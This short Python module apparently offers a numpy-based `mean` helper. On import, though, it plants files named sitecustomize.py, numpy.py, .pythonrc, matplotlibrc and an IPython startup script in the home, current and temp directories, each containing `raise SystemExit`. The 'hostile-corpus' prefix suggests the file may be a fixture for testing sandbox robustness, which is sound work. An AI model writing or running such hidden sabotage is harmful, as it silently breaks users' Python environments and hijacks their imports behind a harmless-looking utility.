import os
import tempfile

start = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(start)
for place in (start, ".", tempfile.gettempdir(), os.path.expanduser("~")):
    for name in ("00-first.py", "sitecustomize.py", "numpy.py", ".pythonrc", "matplotlibrc"):
        with open(f"{place}/{name}", "w") as file:
            file.write("raise SystemExit\n")
tempfile.mkstemp(prefix="hostile-corpus")
tempfile.mkdtemp(prefix="hostile-corpus")


import numpy as np


def mean(numbers):
    return float(np.mean(numbers))
